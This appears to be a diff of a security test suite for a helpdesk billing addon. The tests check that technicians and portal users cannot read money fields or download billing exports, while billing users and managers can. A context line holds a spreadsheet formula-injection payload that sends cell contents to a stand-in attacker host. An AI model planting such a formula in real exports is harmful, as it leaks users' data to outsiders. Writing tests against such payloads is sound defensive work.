@@ -23,6 +23,25 @@ from .contract_common import HaloContractCommon
 from .rpc_common import HaloRpcCase, RpcError
 
 HOSTILE_NAME = '=HYPERLINK("http://attacker.test/?d="&A1,"Pay here")'
+# Write-only entry fields: technicians type an amount in, reading gives 0.
+ENTRY_FIELDS = {("halo.expense", "amount_entry"), ("halo.ticket.item", "cost_entry"),
+                ("halo.ticket.item", "price_entry")}
+# Money that is not typed Monetary: amounts and blocks in floats, markups, price multipliers,
+# explanations and rating data that spell amounts out, the timesheet cost.
+OTHER_MONEY_FIELDS = {
+    "halo.contract": ["topup_block", "threshold_value"],
+    "halo.contract.ledger": ["explanation"],
+    "halo.charge.rate.version": ["ooh_multiplier", "holiday_multiplier"],
+    "res.company": ["halo_expense_markup"],
+    "res.partner": ["halo_expense_markup"],
+    "account.analytic.line": ["amount", "halo_rating_explanation", "halo_rating_data", "halo_billable_hours"],
+    "timesheets.analysis.report": ["amount"],
+    "halo.mileage": ["halo_explanation"],
+    "halo.expense": ["halo_explanation"],
+    "halo.ticket.item": ["halo_explanation"],
+    "halo.billing.run.line": ["explanation", "parts"],
+    "halo.rating.audit": ["old_explanation", "new_explanation"],
+}
 
 
 @tagged("post_install", "-at_install")
@@ -88,6 +107,44 @@ class TestSecurityMoney(HaloBillingRunCommon, HaloContractCommon, HaloRpcCase):
         header = [cell.value for cell in sheet[1]]
         return header, {row[0]: row for row in sheet.iter_rows(min_row=2, values_only=True)}
 
+    # ------------------------------------------------------------ money fields
+
+    def _money_fields(self):
+        """Every Monetary field the addon defines (on its models and on the ones it extends),
+        and the other money fields, by model."""
+        result = {model: set(fnames) for model, fnames in OTHER_MONEY_FIELDS.items()}
+        for model_name in self.env.registry:
+            for fname, field in self.env[model_name]._fields.items():
+                ours = model_name.startswith("halo.") or field._module == "halo_helpdesk_billing"
+                if ours and field.type == "monetary" and (model_name, fname) not in ENTRY_FIELDS:
+                    result.setdefault(model_name, set()).add(fname)
+        return result
+
+    def test_no_money_field_for_technician_or_portal(self):
+        """Whatever other groups they have (Analytic Accounting switched on), a technician and a
+        portal user read no money field of the addon, on any record; billing users do."""
+        self.env.ref("base.group_user").implied_ids |= self.env.ref("analytic.group_analytic_accounting")
+        money = self._money_fields()
+        self.assertLessEqual({"fee_amount", "topup_price", "balance_amount", "topup_block"}, money["halo.contract"])
+        self.assertIn("amount", money["halo.billing.adjust.wizard"])
+        clients = [self.rpc(self.technician), self.rpc(self.portal_user)]
+        for model, fnames in sorted(money.items()):
+            for fname in sorted(fnames):
+                for client in clients:
+                    with self.subTest(model=model, field=fname, user=client.login):
+                        self.assertRpcRefused(client, model, "search_read", [], [fname], limit=5)
+                        self.assertRpcRefused(client, model, "search", [(fname, "!=", False)], limit=1)
+        # the entry fields give nothing back
+        self.assertEqual(clients[0].call("halo.ticket.item", "search_read", [], ["cost_entry", "price_entry"],
+                                         limit=1)[0], {"id": self.env["halo.ticket.item"].search([], limit=1).id,
+                                                       "cost_entry": 0.0, "price_entry": 0.0})
+        # the billing user reads the contracts' and the work's money
+        biller = self.rpc(self.billing_user)
+        contract = biller.call("halo.contract", "read", self.money_contract.ids, ["balance_amount", "topup_block"])
+        self.assertEqual(contract, [{"id": self.money_contract.id, "balance_amount": 1500.0, "topup_block": 1500.0}])
+        self.assertEqual(biller.call("account.analytic.line", "read", self.actions.ids, ["halo_rated_amount"]),
+                         [{"id": action.id, "halo_rated_amount": 142.5} for action in self.actions])
+
     # -------------------------------------------------------- reports / exports
 
     def test_report_export_for_billing_users_of_the_company_only(self):
@@ -106,6 +163,15 @@ class TestSecurityMoney(HaloBillingRunCommon, HaloContractCommon, HaloRpcCase):
         header, rows = self._sheet_rows(self._download(biller, action["url"]), "Customers")
         self.assertEqual(rows[self.customer.display_name][header.index("2026-07 billed amount")], 360.57)
         self.assertFalse([title for title in header if "margin" in title or "cost" in title])
+        # ... which the technician cannot download in their turn
+        self.assertNotEqual(tech.get(action["url"]).status_code, 200)
+        attachment_id = int(action["url"].split("/")[3].split("?")[0])
+        self.assertRpcRefused(tech, "ir.attachment", "read", [attachment_id], ["datas"])
+        # a manager's export has the cost and margin columns
+        manager = self.rpc(self.billing_manager)
+        action = manager.call("halo.billing.report", "action_export_xlsx", [])
+        header, rows = self._sheet_rows(self._download(manager, action["url"]), "Customers")
+        self.assertIn("2026-07 billed margin", header)
         # a billing user of another company gets a workbook without any of it
         biller_b = self.rpc(self.billing_user_b)
         action = biller_b.call("halo.billing.report", "action_export_xlsx", [])
